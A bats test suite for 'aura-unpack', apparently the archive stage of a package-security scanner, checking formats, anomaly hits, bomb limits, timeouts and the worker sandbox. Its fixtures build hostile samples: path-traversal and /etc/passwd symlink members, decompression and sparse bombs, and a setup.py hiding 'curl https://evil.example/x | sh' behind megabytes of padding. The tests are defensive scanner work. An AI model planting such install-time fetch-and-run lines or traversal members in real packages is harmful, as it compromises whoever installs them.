#!/usr/bin/env bats
# 10-unpack.bats: aura-unpack: formats, file records, archive anomalies, limits, the confined worker.
load helpers/common
bats_require_minimum_version 1.5.0

# Fixtures are built at test time with Python's tarfile/zipfile: no binaries in the tree.
setup() {
	F="$BATS_TEST_TMPDIR"
	python3 - "$F" <<'EOF'
import io, os, sys, tarfile, zipfile
d = sys.argv[1]
SETUP = b'from setuptools import setup\nsetup(name="pkg")\n'
MEMBERS = [  # name, data, mode
    ('pkg-1.0/setup.py', SETUP, 0o644),
    ('pkg-1.0/pkg/__init__.py', b'', 0o644),
    ('pkg-1.0/bin/tool', b'#!/usr/bin/env python3\nprint(1)\n', 0o755),
    ('pkg-1.0/data.bin', b'\x00\x01\x02\xff', 0o644),
]

def member(t, name, data=b'', mode=0o644, type=tarfile.REGTYPE, link=''):
    ti = tarfile.TarInfo(name)
    ti.size, ti.mode, ti.type, ti.linkname = len(data), mode, type, link
    t.addfile(ti, io.BytesIO(data) if type == tarfile.REGTYPE else None)

for suffix, mode in (('tar.gz', 'w:gz'), ('tar.bz2', 'w:bz2'), ('tar.xz', 'w:xz')):
    with tarfile.open(f'{d}/pkg.{suffix}', mode) as t:
        t.add(f'{d}', arcname='pkg-1.0', recursive=False)  # a directory entry
        for name, data, m in MEMBERS:
            member(t, name, data, m)
for name in ('pkg.zip', 'pkg-1.0-py3-none-any.whl'):
    with zipfile.ZipFile(f'{d}/{name}', 'w', zipfile.ZIP_DEFLATED) as z:
        for n, data, m in MEMBERS:
            zi = zipfile.ZipInfo(n)
            zi.external_attr = (0o100000 | m) << 16
            zi.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(zi, data)

with tarfile.open(f'{d}/evil.tar', 'w', format=tarfile.GNU_FORMAT) as t:
    member(t, '../../etc/evil.py', b'x = 1\n')
    member(t, '/abs/path.txt', b'abs\n')
    member(t, 'dir\\win.txt', b'win\n')
    member(t, 'pkg/ok.py', b'ok = 1\n')
    member(t, 'pkg/link', type=tarfile.SYMTYPE, link='../../../etc/passwd')
    member(t, 'pkg/hard', type=tarfile.LNKTYPE, link='pkg/ok.py')
    member(t, 'pkg/fifo', type=tarfile.FIFOTYPE)
    member(t, 'pkg/suid', b'\x7fELF\x02\x01\x01\x00', 0o4755)

# Truncated in the middle of an incompressible member.
buf = io.BytesIO()
with tarfile.open(fileobj=buf, mode='w:gz') as t:
    member(t, 'first.py', b'print("first")\n')
    member(t, 'random.bin', os.urandom(200000))
data = buf.getvalue()
open(f'{d}/corrupt.tar.gz', 'wb').write(data[:len(data) // 2])

with tarfile.open(f'{d}/latin1.tar', 'w', format=tarfile.GNU_FORMAT,
                  encoding='utf-8', errors='surrogateescape') as t:
    member(t, b'caf\xe9.py'.decode('utf-8', 'surrogateescape'), b'cafe = 1\n')

with tarfile.open(f'{d}/big.tar.gz', 'w:gz') as t:
    member(t, 'big.txt', b'0123456789' * 300)
    member(t, 'small.py', b'x = 2\n')

with tarfile.open(f'{d}/many.tar', 'w') as t:
    for i in range(20):
        member(t, f'm{i:02}.txt', b'%d\n' % i)

with tarfile.open(f'{d}/zeros.tar.gz', 'w:gz') as t:
    member(t, 'zeros.bin', bytes(4 << 20))

# A sparse member: 10 KiB of archive that reads as 100 GB.
ti = tarfile.TarInfo('sparse.bin'); ti.size = 1
ti.pax_headers = {'GNU.sparse.size': '100000000000', 'GNU.sparse.numblocks': '1',
                  'GNU.sparse.offset': '99999999999', 'GNU.sparse.numbytes': '1',
                  'GNU.sparse.name': 'sparse.bin'}
with tarfile.open(f'{d}/sparse.tar', 'w', format=tarfile.PAX_FORMAT) as t:
    t.addfile(ti, io.BytesIO(b'x'))

os.makedirs(f'{d}/tree/sub')
open(f'{d}/tree/sub/mod.py', 'w').write('import os\n')
open(f'{d}/tree/b.txt', 'w').write('b\n')
open(f'{d}/tree/a.pth', 'w').write('import sub\n')
os.symlink('/etc/passwd', f'{d}/tree/passwd')
open(f'{d}/single.py', 'w').write('print("single")\n')
EOF
}

# Run aura-unpack; its records stay in $out while later `run jq` calls reuse $output.
unpack() {
	run --separate-stderr aura-unpack "$@"
	out="$output"
}

# An artifact record: id, path, kind (archive by default).
artifact() {
	jq -nc --arg id "$1" --arg p "$2" --arg k "${3:-archive}" \
		'{type:"artifact",v:1,id:$id,path:$p,kind:$k}'
}

# The file records of $output, projected to the fields that do not depend on content.
files_of() {
	printf '%s\n' "$out" | jq -c 'select(.type=="file") |
		[.id, .index, .path, .size, .mode, .executable, .kind, .content_encoding, .truncated]'
}

end_of() {
	printf '%s\n' "$out" | jq -c --arg a "$1" 'select(.type=="artifact_end" and .artifact==$a)'
}

hits_of() {
	printf '%s\n' "$out" | jq -c 'select(.type=="hit") | [.detection, .severity, .path, .message]'
}

@test "tar.gz, tar.bz2, tar.xz, zip and wheel give the same file records" {
	for f in pkg.tar.gz pkg.tar.bz2 pkg.tar.xz pkg.zip pkg-1.0-py3-none-any.whl; do
		unpack < <(artifact x "$F/$f")
		assert_success
		assert_valid_records
		assert_equal "$(files_of)" '["x:0",0,"pkg-1.0/setup.py",47,420,false,"python","utf-8",false]
["x:1",1,"pkg-1.0/pkg/__init__.py",0,420,false,"python","utf-8",false]
["x:2",2,"pkg-1.0/bin/tool",32,493,true,"python","utf-8",false]
["x:3",3,"pkg-1.0/data.bin",4,420,false,"binary","base64",false]'
		assert_equal "$(end_of x)" \
			'{"type":"artifact_end","v":1,"artifact":"x","files":4,"hits":0,"errors":0,"complete":true}'
	done
}

@test "content, sha256 and base64 are exact" {
	unpack < <(artifact x "$F/pkg.tar.gz")
	assert_success
	local setup_sha
	setup_sha=$(printf 'from setuptools import setup\nsetup(name="pkg")\n' | sha256sum | cut -d' ' -f1)
	run jq -c 'select(.type=="file" and .index==0) | [.content, .sha256]' <<<"$out"
	assert_output "[\"from setuptools import setup\\nsetup(name=\\\"pkg\\\")\\n\",\"$setup_sha\"]"
	unpack < <(artifact x "$F/pkg.zip")
	run jq -r 'select(.type=="file" and .index==3) | .content' <<<"$out"
	assert_output "AAEC/w=="
}

@test "every record passes through unchanged and in order, artifact_end closes each artifact" {
	local other='{"type":"note","v":1,"z":[1,2],"a":"kept as written"}'
	unpack < <(echo "$other"; artifact x "$F/single.py" file; echo "$other")
	assert_success
	run jq -r .type <<<"$out"
	assert_output "note
artifact
file
artifact_end
note"
	unpack < <(echo "$other")
	assert_output "$other"
}

@test "a single-file artifact is one file record named by its basename" {
	unpack < <(artifact s "$F/single.py" file)
	assert_success
	assert_equal "$(files_of)" '["s:0",0,"single.py",16,420,false,"python","utf-8",false]'
	assert_equal "$(end_of s)" \
		'{"type":"artifact_end","v":1,"artifact":"s","files":1,"hits":0,"errors":0,"complete":true}'
}

@test "a directory is walked in byte order and its symlink is a hit, never followed" {
	unpack < <(artifact d "$F/tree" directory)
	assert_success
	assert_valid_records
	assert_equal "$(files_of)" '["d:0",0,"a.pth",11,420,false,"pth","utf-8",false]
["d:1",1,"b.txt",2,420,false,"text","utf-8",false]
["d:2",2,"sub/mod.py",10,420,false,"python","utf-8",false]'
	assert_equal "$(hits_of)" \
		'["Symlink","low","passwd","member '"'"'passwd'"'"' is a symbolic link to '"'"'/etc/passwd'"'"'"]'
	refute_output --partial 'root:'
	assert_equal "$(end_of d)" \
		'{"type":"artifact_end","v":1,"artifact":"d","files":3,"hits":1,"errors":0,"complete":true}'
}

@test "path traversal, symlink, hard link, FIFO and setuid members are hits" {
	unpack < <(artifact e "$F/evil.tar")
	assert_success
	assert_valid_records
	assert_equal "$(files_of)" '["e:0",0,"../../etc/evil.py",6,420,false,"python","utf-8",false]
["e:1",1,"/abs/path.txt",4,420,false,"text","utf-8",false]
["e:2",2,"dir\\win.txt",4,420,false,"text","utf-8",false]
["e:3",3,"pkg/ok.py",7,420,false,"python","utf-8",false]
["e:4",4,"pkg/suid",8,2541,true,"native","utf-8",false]'
	run jq -c 'select(.type=="hit") | [.detection, .severity, .path]' <<<"$out"
	assert_output '["PathTraversal","medium","../../etc/evil.py"]
["PathTraversal","medium","/abs/path.txt"]
["PathTraversal","medium","dir\\win.txt"]
["Symlink","low","pkg/link"]
["HardlinkInTree","info","pkg/hard"]
["SpecialFile","low","pkg/fifo"]
["SetuidMember","low","pkg/suid"]'
	run jq -r 'select(.type=="hit" and .detection=="Symlink") | .message' <<<"$out"
	assert_output "member 'pkg/link' is a symbolic link to '../../../etc/passwd', outside the archive"
	run jq -r 'select(.type=="artifact_end") | [.files, .hits, .errors, .complete] | @csv' <<<"$out"
	assert_output '5,7,0,true'
}

@test "a truncated tar.gz: what was read, an error, complete:false, and the stream goes on" {
	unpack < <(artifact bad "$F/corrupt.tar.gz"; artifact good "$F/pkg.tar.gz")
	assert_success
	assert_valid_records
	run jq -c 'select(.artifact=="bad" and .type=="file") | .path' <<<"$out"
	assert_output '"first.py"'
	run jq -c 'select(.type=="error") | [.artifact, .stage]' <<<"$out"
	assert_output '["bad","aura-unpack"]'
	assert_equal "$(end_of bad)" \
		'{"type":"artifact_end","v":1,"artifact":"bad","files":1,"hits":0,"errors":1,"complete":false}'
	assert_equal "$(end_of good)" \
		'{"type":"artifact_end","v":1,"artifact":"good","files":4,"hits":0,"errors":0,"complete":true}'
	# The message names the member that could not be read (libarchive says why).
	[[ "$stderr" == "aura-unpack: random.bin: cannot read member: "* ]] || fail "stderr: $stderr"
}

@test "a member name that is not UTF-8: U+FFFD in path, the bytes in path_raw" {
	unpack < <(artifact n "$F/latin1.tar")
	assert_success
	assert_valid_records
	run jq -c 'select(.type=="file") | [.path, .path_raw, .kind]' <<<"$out"
	assert_output '["caf�.py","Y2Fm6S5weQ==","python"]'
	run jq -c 'select(.type=="file") | .path | explode' <<<"$out"
	assert_output '[99,97,102,65533,46,112,121]'
}

@test "a member bigger than --max-content keeps hash and size, content is the head" {
	unpack --max-content 1K < <(artifact b "$F/big.tar.gz")
	assert_success
	assert_equal "$(files_of)" '["b:0",0,"big.txt",3000,420,false,"text","utf-8",true]
["b:1",1,"small.py",6,420,false,"python","utf-8",false]'
	local sha
	sha=$(python3 -c 'import sys; sys.stdout.write("0123456789" * 300)' | sha256sum | cut -d' ' -f1)
	run jq -c 'select(.type=="file" and .index==0) | [(.content | length), .sha256]' <<<"$out"
	assert_output "[1024,\"$sha\"]"
	run jq -c 'select(.type=="hit") | [.detection, .severity, .path, .file]' <<<"$out"
	assert_output '["LargeFile","info","big.txt","b:0"]'
	run jq -r 'select(.type=="artifact_end") | [.files, .hits, .errors, .complete] | @csv' <<<"$out"
	assert_output '2,1,0,true'
}

@test "Python cut at --max-content is never clean: UnreadSource (high) and an error" {
	python3 - "$F/cut.tar" <<'EOF'
import io, sys, tarfile
pad = b'# ' + b'x' * 2000 + b'\n'
with tarfile.open(sys.argv[1], 'w') as t:
    for name, data in (('p-1.0/setup.py', pad + b'import os\nos.system("id")\n'),
                       ('p-1.0/p/__init__.py', pad + b'import os\n'),
                       ('p-1.0/p/hook.pth', pad + b'import os\n'),
                       ('p-1.0/data.txt', pad)):
        ti = tarfile.TarInfo(name); ti.size = len(data)
        t.addfile(ti, io.BytesIO(data))
EOF
	unpack --max-content 1K < <(artifact c "$F/cut.tar")
	assert_success
	run jq -c 'select(.type=="hit") | [.detection, .severity, .score, .path, .context, .tags]' <<<"$out"
	assert_output '["UnreadSource","high",100,"p-1.0/setup.py","install",["archive","install-time"]]
["UnreadSource","high",100,"p-1.0/p/__init__.py",null,["archive"]]
["UnreadSource","high",100,"p-1.0/p/hook.pth","install",["archive","install-time"]]
["LargeFile","info",0,"p-1.0/data.txt",null,["archive"]]'
	run jq -r 'select(.type=="error") | .path + ": " + .message' <<<"$out"
	assert_output "p-1.0/setup.py: Python source of 2029 bytes is bigger than --max-content (1024): only its head was analysed
p-1.0/p/__init__.py: Python source of 2013 bytes is bigger than --max-content (1024): only its head was analysed
p-1.0/p/hook.pth: .pth source of 2013 bytes is bigger than --max-content (1024): only its head was analysed"
	assert_equal "$(end_of c)" \
		'{"type":"artifact_end","v":1,"artifact":"c","files":4,"hits":4,"errors":3,"complete":false}'
}

@test "a payload behind 10.7 MB of padding in setup.py: aura scan is incomplete and high" {
	mkdir -p "$F/pad-1.0"
	python3 - "$F/pad-1.0/setup.py" <<'EOF'
import base64, os, sys
pad = base64.b64encode(os.urandom(8 << 20)).decode()	# incompressible, 11.2 MB
open(sys.argv[1], 'w').write('from setuptools import setup\n# ' + pad + '\nimport os\n'
                             'os.system("curl https://evil.example/x | sh")\nsetup(name="pad")\n')
EOF
	tar -C "$F" -czf "$F/pad-1.0.tar.gz" pad-1.0
	run --separate-stderr aura scan --format json --fail-level medium "$F/pad-1.0.tar.gz"
	assert_failure 2	# incomplete: the scan cannot vouch for the package
	assert_jq "$output" '.complete == false and .risk == "high"'
	assert_jq "$output" '[.hits[] | select(.detection == "UnreadSource" and .severity == "high")] | length == 1'
	assert_jq "$output" '.errors[0].message | test("bigger than --max-content")'
	# Even when incompleteness is allowed, the gate holds.
	run --separate-stderr aura scan --format json --fail-level medium --allow-errors "$F/pad-1.0.tar.gz"
	assert_failure 1
}

@test "a file id is never cut, however long the artifact id" {
	local id
	id=$(printf 'é%.0s' $(seq 600))
	run --separate-stderr aura-unpack < <(jq -nc --arg id "$id" --arg p "$F/single.py" \
		'{type:"artifact",v:1,id:$id,path:$p,kind:"file"}')
	run jq -r 'select(.type=="file") | .id' <<<"$output"
	assert_output "$id:0"
}

@test "the verdict does not depend on load: a downstream stage stopped past --timeout loses nothing" {
	# 2,000 modules: megabytes of records, far more than the pipes between stages hold, so
	# the unpack worker blocks writing while aura-parse is stopped.
	python3 - "$F/many" <<'EOF'
import os, sys
for i in range(2000):
    d = f'{sys.argv[1]}/m{i // 100:02}'
    os.makedirs(d, exist_ok=True)
    open(f'{d}/mod{i:04}.py', 'w').write(f'"""Module {i}."""\n' + 'x = 1  # padding\n' * 80)
EOF
	artifact many "$F/many" directory > "$F/in"
	aura-unpack --timeout 2 < "$F/in" | aura-parse > "$F/calm"
	# The same, with aura-parse stopped for 5 s (more than the 2 s limit) before it reads.
	local pidfile="$F/parse.pid" start
	start=$(date +%s)
	{ aura-unpack --timeout 2 < "$F/in" |
		(echo "$BASHPID" > "$pidfile"; kill -STOP "$BASHPID"; exec aura-parse) > "$F/stopped"; } &
	local job=$!
	while [ ! -s "$pidfile" ]; do sleep 0.05; done
	sleep 5
	kill -CONT "$(cat "$pidfile")"
	wait "$job"
	[ $(( $(date +%s) - start )) -ge 5 ] || fail "the stage was not stopped"
	assert_equal "$(grep -c '"type":"file"' "$F/stopped")" 2000
	run jq -c 'select(.type=="artifact_end") | [.files, .errors, .complete]' "$F/stopped"
	assert_output '[2000,0,true]'
	cmp "$F/calm" "$F/stopped" || fail "a stopped downstream stage changed the records"
}

@test "--max-members stops the archive with an ArchiveBomb hit" {
	unpack --max-members 5 < <(artifact m "$F/many.tar"; artifact s "$F/single.py" file)
	assert_success
	run jq -r 'select(.type=="file" and .artifact=="m") | .path' <<<"$out"
	assert_output "m00.txt
m01.txt
m02.txt
m03.txt
m04.txt"
	run jq -c 'select(.type=="hit") | [.detection, .severity, .path, .message]' <<<"$out"
	assert_output '["ArchiveBomb","medium",null,"more than 5 members (--max-members); the rest of the artifact was not read"]'
	assert_equal "$(end_of m)" \
		'{"type":"artifact_end","v":1,"artifact":"m","files":5,"hits":1,"errors":0,"complete":true}'
	assert_equal "$(end_of s)" \
		'{"type":"artifact_end","v":1,"artifact":"s","files":1,"hits":0,"errors":0,"complete":true}'
}

@test "--max-total and --max-ratio stop decompression bombs" {
	unpack --max-ratio 0 --max-total 1M < <(artifact z "$F/zeros.tar.gz")
	assert_success
	run jq -r 'select(.type=="hit") | .detection + ": " + .message' <<<"$out"
	assert_output "ArchiveBomb: more than 1048576 bytes uncompressed (--max-total), while reading 'zeros.bin'; the rest of the artifact was not read"
	run jq -r 'select(.type=="artifact_end") | [.files, .hits, .errors, .complete] | @csv' <<<"$out"
	assert_output '0,1,0,true'

	unpack < <(artifact z "$F/zeros.tar.gz")
	run jq -r 'select(.type=="hit") | .detection + ": " + .message' <<<"$out"
	assert_output --regexp '^ArchiveBomb: compression ratio above 200:1 \([0-9]+ bytes from [0-9]+, --max-ratio\)'

	# A sparse member: 10 KiB of tar that would read as 100 GB.
	unpack < <(artifact sp "$F/sparse.tar")
	run jq -r 'select(.type=="hit") | .detection' <<<"$out"
	assert_output "ArchiveBomb"
}

@test "--timeout kills a worker that uses too much CPU time; the stream goes on" {
	unpack --max-ratio 0 --max-total 1000G --max-member 1000G --timeout 1 \
		< <(artifact sp "$F/sparse.tar"; artifact s "$F/single.py" file)
	assert_success
	run jq -c 'select(.type=="error") | [.artifact, .message]' <<<"$out"
	assert_output '["sp","worker exceeded the CPU time limit of 1 s (--timeout); killed"]'
	assert_equal "$(end_of sp)" \
		'{"type":"artifact_end","v":1,"artifact":"sp","files":0,"hits":0,"errors":1,"complete":false}'
	assert_equal "$(end_of s)" \
		'{"type":"artifact_end","v":1,"artifact":"s","files":1,"hits":0,"errors":0,"complete":true}'
}

@test "a worker that sleeps instead of working is killed after --timeout seconds; the stream goes on" {
	# The worker hashes a 100 GB sparse member (CPU-bound); stopped, it does nothing at all,
	# which its CPU limit alone would never end.
	local fifo="$F/in.fifo" pid worker w
	mkfifo "$fifo"
	aura-unpack --max-ratio 0 --max-total 1000G --max-member 1000G --timeout 2 \
		< "$fifo" > "$F/out" 2>/dev/null &
	pid=$!
	exec {w}> "$fifo"	# (bats keeps fd 3 for itself)
	artifact sp "$F/sparse.tar" >&"$w"
	while ! worker=$(pgrep -P "$pid"); do sleep 0.05; done
	kill -STOP "$worker"
	artifact s "$F/single.py" file >&"$w"
	exec {w}>&-
	wait "$pid"
	run jq -c 'select(.type=="error") | [.artifact, .message]' "$F/out"
	assert_output '["sp","worker slept for 2 s with nothing to write (neither working nor waiting for the next stage); killed"]'
	run jq -c 'select(.type=="artifact_end") | [.artifact, .complete]' "$F/out"
	assert_output '["sp",false]
["s",true]'
}

@test "a missing path, a wrong kind and a bad record are errors, and the stream goes on" {
	unpack < <(artifact gone "$F/no-such.tar.gz"
		artifact dir "$F/tree" archive
		echo '{"type":"artifact","v":1,"path":"/x"}'
		artifact ok "$F/single.py" file)
	assert_success
	assert_valid_records
	run jq -c 'select(.type=="error") | [.artifact, .path, .message]' <<<"$out"
	assert_output "[\"gone\",\"$F/no-such.tar.gz\",\"cannot open: No such file or directory\"]
[\"dir\",\"$F/tree\",\"artifact kind is 'archive' but the path is a directory\"]
[null,\"/x\",\"artifact record without a string id\"]"
	assert_equal "$(end_of gone)" \
		'{"type":"artifact_end","v":1,"artifact":"gone","files":0,"hits":0,"errors":1,"complete":false}'
	assert_equal "$(end_of ok)" \
		'{"type":"artifact_end","v":1,"artifact":"ok","files":1,"hits":0,"errors":0,"complete":true}'
	assert_equal "$(printf '%s\n' "$out" | jq -c 'select(.type=="artifact_end")' | wc -l)" 4
}

@test "something that is not an archive is an error, not a crash" {
	unpack < <(artifact p "$F/single.py")
	assert_success
	run jq -r 'select(.type=="error") | .message' <<<"$out"
	assert_output --partial "not a readable archive"
	assert_equal "$(end_of p)" \
		'{"type":"artifact_end","v":1,"artifact":"p","files":0,"hits":0,"errors":1,"complete":false}'
}

@test "the worker cannot open files: an archive worker has no filesystem at all" {
	unpack --sandbox-selftest worker:open:/etc/passwd \
		< <(artifact x "$F/pkg.tar.gz")
	assert_success
	assert_equal "$(printf '%s\n' "$out" | jq -r 'select(.type=="error") | .message')" \
		"worker exited with status 3"
	[[ "$stderr" == *"'open:/etc/passwd' refused: Permission denied"* ]] || fail "stderr: $stderr"
	assert_equal "$(end_of x)" \
		'{"type":"artifact_end","v":1,"artifact":"x","files":0,"hits":0,"errors":1,"complete":false}'

	# Even the archive itself, by name: the worker has only its open descriptor.
	unpack --sandbox-selftest "worker:open:$F/pkg.tar.gz" \
		< <(artifact x "$F/pkg.tar.gz")
	[[ "$stderr" == *"'open:$F/pkg.tar.gz' refused: Permission denied"* ]] || fail "stderr: $stderr"
}

@test "a directory worker reads only beneath its directory" {
	unpack --sandbox-selftest worker:open:/etc/passwd \
		< <(artifact d "$F/tree" directory)
	[[ "$stderr" == *"'open:/etc/passwd' refused: Permission denied"* ]] || fail "stderr: $stderr"
	unpack --sandbox-selftest "worker:open:$F/single.py" \
		< <(artifact d "$F/tree" directory)
	[[ "$stderr" == *"'open:$F/single.py' refused: Permission denied"* ]] || fail "stderr: $stderr"
	assert_equal "$(printf '%s\n' "$out" | jq -r 'select(.type=="error") | .message')" \
		"worker exited with status 3"
}

@test "with --no-sandbox the same worker self-test is allowed" {
	AURA_ALLOW_NO_SANDBOX=1 unpack --no-sandbox --sandbox-selftest worker:open:/etc/passwd \
		< <(artifact x "$F/pkg.tar.gz")
	assert_success
	[[ "$stderr" == *"sandbox disabled"* ]] || fail "stderr: $stderr"
	[[ "$stderr" == *"'open:/etc/passwd' allowed"* ]] || fail "stderr: $stderr"
	refute_output --partial '"type":"error"'
}

@test "a worker killed by the sandbox costs only its artifact" {
	unpack --sandbox-selftest worker:socket \
		< <(artifact first "$F/pkg.tar.gz"; artifact second "$F/pkg.zip")
	assert_success
	assert_valid_records
	run jq -c 'select(.type=="error") | [.artifact, .message]' <<<"$out"
	assert_output '["first","worker killed by signal 31 (SIGSYS): a sandbox violation (see the message above)"]'
	[[ "$stderr" == *"system call 41 (socket) is not allowed"* ]] || fail "stderr: $stderr"
	assert_equal "$(end_of first)" \
		'{"type":"artifact_end","v":1,"artifact":"first","files":0,"hits":0,"errors":1,"complete":false}'
	assert_equal "$(end_of second)" \
		'{"type":"artifact_end","v":1,"artifact":"second","files":4,"hits":0,"errors":0,"complete":true}'
}

@test "the worker cannot execute programs or write files" {
	unpack --sandbox-selftest worker:exec < <(artifact x "$F/pkg.tar.gz")
	assert_output --partial 'SIGSYS'
	unpack --sandbox-selftest "worker:write:$F/written" \
		< <(artifact x "$F/pkg.tar.gz")
	assert_output --partial 'SIGSYS'
	assert [ ! -e "$F/written" ]
}

@test "usage errors exit 2" {
	run -2 aura-unpack --max-members nope
	run -2 aura-unpack --timeout 0
	run -2 aura-unpack extra-argument
}
